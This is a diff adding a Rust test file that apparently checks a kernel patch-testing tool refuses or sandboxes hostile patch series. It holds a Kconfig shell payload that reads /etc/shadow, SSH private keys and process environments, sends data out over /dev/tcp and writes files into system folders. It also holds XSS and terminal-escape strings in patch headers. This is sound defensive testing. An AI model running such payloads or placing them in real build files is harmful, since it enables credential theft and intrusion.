@@ -1,0 +1,181 @@
+//! A corpus of malicious series: what each tries is refused or contained, and it is in the report.
+//!
+//! The first test needs no kernel. The others configure and build a little of a real one (`make test`); they need the
+//! tree that `real_kernel` imports.
+
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use camino::Utf8Path;
+use serde_json::Value;
+
+/// Patches of `hostile/` and what the refusal of each must say.
+const REFUSED: [(&str, &str); 17] = [
+    ("binary", "binary file"),
+    ("device-mode", "file mode `060000`"),
+    ("link-absolute", "is absolute"),
+    ("link-into-git", "git's own folder"),
+    ("link-outside", "outside the tree"),
+    ("link-then-file", "reached through the symlink mm/up"),
+    ("long-line", "longer than 64 KiB"),
+    ("names-disagree", "different files"),
+    ("nul", "NUL"),
+    ("path-absolute", "is absolute"),
+    ("path-escape-sequence", "control character"),
+    ("path-git-case", "git's own folder"),
+    ("path-git-hook", "git's own folder"),
+    ("path-git-quoted", "git's own folder"),
+    ("path-git-short", "git's own folder"),
+    ("path-parent", "outside the tree"),
+    ("submodule", "submodule"),
+];
+
+fn repository() -> &'static Path {
+    Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap()
+}
+
+fn corpus() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/hostile")
+}
+
+#[test]
+fn every_patch_of_the_corpus_is_refused_by_its_line() {
+    let mut files: Vec<String> = std::fs::read_dir(corpus())
+        .unwrap()
+        .filter_map(|entry| entry.unwrap().file_name().into_string().unwrap().strip_suffix(".patch").map(str::to_owned))
+        .collect();
+    files.sort();
+    assert_eq!(files, REFUSED.map(|(name, _)| name), "each file is in the table, and each line has its file");
+    let home = orchestrator::config::Home::find(
+        Some(Utf8Path::from_path(repository()).unwrap()),
+        Utf8Path::new("/"),
+        Utf8Path::new("/nonexistent"),
+    )
+    .unwrap();
+    for (name, expected) in REFUSED {
+        let path = camino::Utf8PathBuf::from_path_buf(corpus().join(format!("{name}.patch"))).unwrap();
+        let source = orchestrator::series::SeriesSource::Mbox(path);
+        let said = match orchestrator::series::load(&home, &source, None) {
+            // What cannot even be read is not applied either.
+            Err(error) => error.to_string(),
+            Ok(series) => {
+                let refusals = orchestrator::series::vet(&series).expect_err(name);
+                assert!(refusals.iter().all(|refusal| refusal.line > 0 || refusal.what.contains("bytes")), "{name}");
+                refusals.iter().map(|refusal| format!("{}: {}\n", refusal.line, refusal.what)).collect()
+            }
+        };
+        assert!(said.contains(expected), "{name}: {said}");
+        assert!(!said.chars().any(|c| c.is_control() && c != '\n'), "{name}: {said:?}");
+    }
+}
+
+/// A run of the program on a series, its results in a folder of its own, the cache the user's.
+fn run(folder: &Path, series: &Path, args: &[&str]) -> (i32, Value, String) {
+    let results = folder.join("results");
+    let output = Command::new(env!("CARGO_BIN_EXE_orchestrator"))
+        .args(["run", "series", series.to_str().unwrap(), "--tree", "linux-6.12"])
+        .args(args)
+        .env("ORCHESTRATOR_RESULTS", &results)
+        .env("ORCHESTRATOR_CANARY", "canary-in-the-environment")
+        .current_dir(repository())
+        .output()
+        .unwrap();
+    let latest = results.join("latest").canonicalize().unwrap();
+    let report = serde_json::from_slice(&std::fs::read(latest.join("report.json")).unwrap()).unwrap();
+    let mut all = String::from_utf8_lossy(&output.stdout).into_owned();
+    // Everything that the run wrote: logs of builds, reports in every form.
+    let mut folders = vec![latest];
+    while let Some(folder) = folders.pop() {
+        for entry in std::fs::read_dir(folder).unwrap() {
+            let path = entry.unwrap().path();
+            match path.is_dir() {
+                true => folders.push(path),
+                false => all.push_str(&String::from_utf8_lossy(&std::fs::read(path).unwrap())),
+            }
+        }
+    }
+    (output.status.code().expect("not killed"), report, all)
+}
+
+/// A new file needs no context, so that it applies to every tree.
+fn new_file(path: &str, text: &str) -> String {
+    let lines = text.lines().count();
+    let added: String = text.lines().map(|line| format!("+{line}\n")).collect();
+    format!(
+        "diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{lines} @@\n{added}"
+    )
+}
+
+fn mail(subject: &str, author: &str, diff: &str) -> String {
+    format!(
+        "From 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001\nFrom: {author}\n\
+         Date: Thu, 1 Jan 2026 00:00:01 +0000\nSubject: [PATCH] {subject}\nMessage-ID: <x@example.org>\n\n\
+         <script>alert(1)</script> \u{202e}evil\u{1b}[2J\n\nSigned-off-by: Mallory <mallory@example.org>\n---\n\n\
+         {diff}-- \n2.40.0\n\n"
+    )
+}
+
+/// Lines of a Kconfig file that try to read secrets, to call out and to write, and print what came of it.
+fn spy(canary: &Path, port: u16) -> String {
+    let shell = format!(
+        "$(shell,(cat {} /etc/shadow /root/.ssh/id_* /proc/1/environ; echo x >/dev/tcp/127.0.0.1/{port}; \
+         touch /usr/owned /var/owned) 2>&1 | tr '\\n\\0$' '   ')",
+        canary.display()
+    );
+    format!("# SPDX-License-Identifier: GPL-2.0-only\nspy := {shell}\n$(warning-if,y,spy saw: $(spy))\n")
+}
+
+#[test]
+#[ignore = "configures and builds a real kernel"]
+fn a_kconfig_that_spies_finds_nothing_and_the_report_names_it() {
+    let bench = tempfile::tempdir_in(repository().join("target")).unwrap();
+    let canary = bench.path().join("secret");
+    std::fs::write(&canary, "canary-on-the-disk").unwrap();
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let old = base("mm/Kconfig.debug");
+    let lines: Vec<&str> = old.lines().collect();
+    let after: String = lines[1..4].iter().map(|line| format!(" {line}\n")).collect();
+    let text = spy(&canary, listener.local_addr().unwrap().port());
+    let added: String = text.lines().skip(1).map(|line| format!("+{line}\n")).collect();
+    let diff = format!(
+        "diff --git a/mm/Kconfig.debug b/mm/Kconfig.debug\n--- a/mm/Kconfig.debug\n+++ b/mm/Kconfig.debug\n\
+         @@ -1,4 +1,6 @@\n {}\n{added}{after}{}",
+        lines[0],
+        new_file("mm/spy.c", "int spy;")
+    );
+    let series = bench.path().join("spy.mbox");
+    let author = "\"<b>M</b>\u{202e}\" <mallory@example.org>";
+    std::fs::write(&series, mail("mm: <img src=x onerror=alert(1)> @everyone fixes #1", author, &diff)).unwrap();
+    let (code, report, all) = run(bench.path(), &series, &["--kconfig", "no-hmm-mirror", "--no-boot"]);
+    let notes = report["trees"][0]["notes"].to_string();
+    assert!(notes.contains("runs a program while the kernel is configured"), "code {code}: {notes}");
+    assert!(notes.contains("mm/Kconfig.debug"), "{notes}");
+    // It did run, and what it printed is in the log.
+    assert!(all.contains("spy saw:"), "the attack must really have been made");
+    for secret in ["canary-on-the-disk", "canary-in-the-environment", "root:*:", "root:$", "PRIVATE KEY"] {
+        assert!(!all.contains(secret), "{secret} was seen");
+    }
+    assert!(listener.accept().is_err_and(|error| error.kind() == std::io::ErrorKind::WouldBlock));
+    assert!(!Path::new("/usr/owned").exists() && !Path::new("/var/owned").exists());
+    let latest = bench.path().join("results/latest");
+    let html = std::fs::read_to_string(latest.join("report.html")).unwrap();
+    assert!(!html.contains("<img src=x") && !html.contains("<script>alert") && !html.contains("<b>M</b>"));
+    assert!(!html.contains(['\u{1b}', '\u{202e}']));
+    assert_eq!(report["run"]["host"]["sandboxed"], true, "this test says something only where the sandbox works");
+}
+
+/// A file of the base of tree linux-6.12, which must have been imported.
+fn base(path: &str) -> String {
+    let cache = std::env::var("ORCHESTRATOR_CACHE")
+        .map_or_else(|_| PathBuf::from(std::env::var("HOME").unwrap()).join(".cache/orchestrator"), PathBuf::from);
+    let repository = cache.join("trees/linux-6.12.git");
+    let imported = std::fs::read(repository.join("imported.json")).expect("tree linux-6.12 was imported");
+    let imported: Value = serde_json::from_slice(&imported).unwrap();
+    let repository = git2::Repository::open_bare(repository).unwrap();
+    let commit = git2::Oid::from_str(imported["commit"].as_str().unwrap()).unwrap();
+    let tree = repository.find_commit(commit).unwrap().tree().unwrap();
+    let blob = tree.get_path(Path::new(path)).unwrap().to_object(&repository).unwrap().peel_to_blob().unwrap();
+    String::from_utf8(blob.content().to_vec()).unwrap()
+}
